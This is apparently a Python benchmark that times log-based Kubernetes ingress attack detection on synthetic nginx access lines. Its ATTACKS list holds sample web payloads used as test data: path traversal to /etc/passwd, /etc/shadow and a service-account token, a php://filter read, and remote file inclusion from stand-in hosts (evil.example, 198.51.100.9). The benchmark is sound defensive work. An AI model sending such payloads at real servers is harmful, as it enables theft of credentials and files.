"""Ingress detection throughput: lines per second through the whole path, against a floor.

    .venv/bin/python bench/ingress_throughput.py [--sizes 100000 400000] [--seed 7]

For each size, a seeded mix of ingress-nginx access lines (mostly benign requests with query
strings, about 3 % attacks) is written to a temporary file and read back in payloads of 5,000 lines
(one subscription payload, held in memory as Lambda holds it). Each payload goes through both:

- floor: match each line with the access-line regex the parser uses, nothing else;
- detect: the full path without AWS: parse the payload into a batch, run the three Kubernetes
  rules (decode, match, tally) and build their risk events.

The ratio floor/detect is what the pre-filters buy; peak memory (tracemalloc, separate pass) must
not grow with the input, since payloads are streamed and each batch is dropped once evaluated.
A naive port (Splunk's wildcard rows tried one by one with fnmatch) is timed on a small sample.
"""

from __future__ import annotations

import argparse
import random
import sys
import tempfile
import time
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from fnmatch import fnmatchcase
from itertools import islice
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from lambdas.detections.base import Context, run_rules  # noqa: E402
from lambdas.detections.kubernetes import RULES  # noqa: E402
from lambdas.detections.kubernetes.targets import (  # noqa: E402
    load_paths,
    sensitive_paths,
    worth_keeping,
)
from lambdas.kubernetes.records import ACCESS_LINE, Batch  # noqa: E402
from lambdas.shared.settings import Settings  # noqa: E402

BATCH_LINES = 5000
NAIVE_SAMPLE = 2000
TIMESTAMP_MS = 1_700_000_000_000

# Benign requests and how often each shape appears (weights out of about 100): mostly API calls
# and assets, some searches with encoded text, a few sign-in flows, redirects and shared links.
# `--mix uniform` draws them all equally often, a much harder mix for the pre-filters.
BENIGN = (
    ("/api/v1/orders?page={n}&per_page=50&sort=created_at", 20),
    ("/api/v1/users/{n}?include=profile,roles", 15),
    ("/static/js/app.{n}.min.js", 15),
    ("/assets/img/logo.png?v=1.4.2", 10),
    ("/search?q=blue+running+shoes&lang=en-US&utm_source=newsletter&utm_medium=email", 8),
    ("/graphql?operationName=GetCart&variables=%7B%22id%22%3A{n}%7D", 6),
    ("/search?q=caf%C3%A9%20au%20lait&page={n}", 5),
    ("/healthz", 5),
    ("/reports?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59Z", 4),
    ("/metrics/targets?target=10.0.0.{n}:9100&module=http_2xx", 3),
    ("/", 2),
    ("/downloads/agent-10.2.0.{n}/linux/amd64", 2),
    ("/login?next=../dashboard", 2),
    (
        "/oauth/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback"
        "&response_type=code&state=xyz{n}",
        2,
    ),
    ("/auth/callback?code=4%2F0Ad{n}&scope=openid%20email", 2),
    ("/share?u=https%3A%2F%2Fblog.example.org%2Fposts%2F{n}", 1),
)
ATTACKS = (
    "/index.php?page=../../../../etc/passwd",
    "/index.php?page=..%2f..%2f..%2f..%2fetc%2fshadow",
    "/view?file=%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron",
    "/download?path=..\\x5C..\\x5C..\\x5Cwindows\\x5Cwin.ini",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/index.php?page=http://198.51.100.9/shell.txt",
    "/include?tpl=HTTPS%3A%2F%2Fevil.example%2Fbackdoor.php",
    "/files/..%2F..%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
)
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.4.0",
)


def lines(count: int, seed: int, uniform: bool = False) -> Iterator[str]:
    """A seeded stream of access lines in ingress-nginx's default format."""
    rng = random.Random(seed)
    shapes = [shape for shape, _ in BENIGN]
    weights = None if uniform else [weight for _, weight in BENIGN]
    for index in range(count):
        attack = rng.random() < 0.03
        template = rng.choice(ATTACKS) if attack else rng.choices(shapes, weights)[0]
        target = template.replace("{n}", str(rng.randrange(1, 250)))
        client = f"203.0.113.{rng.randrange(1, 40)}" if attack else f"198.51.100.{index % 250}"
        status = rng.choice(("200", "200", "200", "304", "404", "302"))
        yield (
            f"{client} - - [14/Nov/2023:22:{index // 60 % 60:02d}:{index % 60:02d} +0000] "
            f'"GET {target} HTTP/1.1" {status} {rng.randrange(0, 90000)} '
            f'"https://app.example.com/" "{rng.choice(AGENTS)}" {rng.randrange(200, 900)} '
            f"0.{rng.randrange(1, 999):03d} [shop-frontend-80] [] 10.1.{index % 8}.17:8080 "
            f"{rng.randrange(0, 90000)} 0.{rng.randrange(1, 999):03d} {status} "
            f"{rng.getrandbits(128):032x}"
        )


def floor(chunk: list[str]) -> int:
    """Match each line with the access-line regex once: the cost no parser can avoid."""
    match = ACCESS_LINE.match
    return sum(1 for line in chunk if match(line))


def detect(chunk: list[str], context: Context) -> int:
    """One subscription payload's lines through the parser and every Kubernetes rule."""
    batch = Batch(cluster="bench", keep=worth_keeping)
    batch.add_all((line, TIMESTAMP_MS) for line in chunk)
    return len(run_rules(RULES, batch, context).risk_events)


def chunks(path: Path) -> Iterator[list[str]]:
    """The file's lines in subscription-sized payloads, read as they are needed."""
    with path.open() as handle:
        while chunk := list(islice(handle, BATCH_LINES)):
            yield chunk


def naive(path: Path) -> float:
    """Lines per second of Splunk's wildcard rows tried one at a time (fnmatch), on a sample."""
    patterns = [f"*{entry}*" for entry in load_paths()]
    with path.open() as handle:
        sample = [next(handle).lower() for _ in range(NAIVE_SAMPLE)]
    started = time.process_time()
    for line in sample:
        any(fnmatchcase(line, pattern) for pattern in patterns)
    return NAIVE_SAMPLE / (time.process_time() - started)


def timed(path: Path, context: Context, rounds: int) -> tuple[float, float, int]:
    """CPU seconds of the floor and of the detection path in the median round; risk events.

    The lines are held in memory, as a subscription payload is, and each payload goes through
    the floor and then the detection path back to back: on a shared machine whose speed drifts
    from one second to the next, both then see the same conditions. Each round's ratio is its
    floor time over its detection time; the round with the median ratio is reported.
    """
    payloads = list(chunks(path))
    results = []
    for _ in range(rounds):
        floor_time = detect_time = 0.0
        produced = 0
        for chunk in payloads:
            started = time.process_time()
            floor(chunk)
            middle = time.process_time()
            produced += detect(chunk, context)
            floor_time += middle - started
            detect_time += time.process_time() - middle
        results.append((floor_time / detect_time, floor_time, detect_time, produced))
    results.sort()
    _, floor_time, detect_time, produced = results[len(results) // 2]
    return floor_time, detect_time, produced


def peak_memory(path: Path, context: Context) -> float:
    """Peak traced memory (MiB) of the detection path streaming over the file."""
    tracemalloc.start()
    for chunk in chunks(path):
        detect(chunk, context)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak / 2**20


def measure(
    sizes: tuple[int, ...] = (100_000, 400_000), seed: int = 7, rounds: int = 5
) -> dict[str, Any]:
    """The figures of the largest size, and every size's row, for `bench/run.py`."""
    context = Context(Settings(), datetime.now(UTC))
    sensitive_paths()
    rows = []
    with tempfile.TemporaryDirectory() as folder:
        for size in sizes:
            path = Path(folder) / f"access-{size}.log"
            path.write_text("".join(line + "\n" for line in lines(size, seed)))
            floor_time, detect_time, _ = timed(path, context, rounds)
            rows.append(
                {
                    "lines": size,
                    "floor_lines_per_second": round(size / floor_time),
                    "lines_per_second": round(size / detect_time),
                    "ratio": round(floor_time / detect_time, 3),
                    "peak_mib": round(peak_memory(path, context), 2),
                }
            )
    return {**rows[-1], "sizes": rows}


def main() -> int:
    """Run the benchmark and print a table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sizes", type=int, nargs="+", default=[100_000, 400_000])
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--rounds", type=int, default=5, help="timed runs of each pass")
    parser.add_argument("--mix", choices=("weighted", "uniform"), default="weighted")
    args = parser.parse_args()

    context = Context(Settings(), datetime.now(UTC))
    sensitive_paths()  # compile once before timing, as a warm Lambda would have
    print(
        f"{'lines':>9} {'floor l/s':>11} {'detect l/s':>11} {'ratio':>6} "
        f"{'risk events':>11} {'peak MiB':>9}"
    )
    with tempfile.TemporaryDirectory() as folder:
        for size in args.sizes:
            path = Path(folder) / f"access-{size}.log"
            with path.open("w") as handle:
                for line in lines(size, args.seed, args.mix == "uniform"):
                    handle.write(line + "\n")
            floor_time, detect_time, produced = timed(path, context, args.rounds)
            ratio = floor_time / detect_time
            print(
                f"{size:>9} {size / floor_time:>11,.0f} {size / detect_time:>11,.0f} "
                f"{ratio:>6.2f} {produced:>11} {peak_memory(path, context):>9.2f}"
            )
        naive_rate = naive(path)
    print(
        f"naive wildcard port: {naive_rate:,.0f} lines/s "
        f"(ratio {naive_rate / (size / floor_time):.4f} of the floor)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
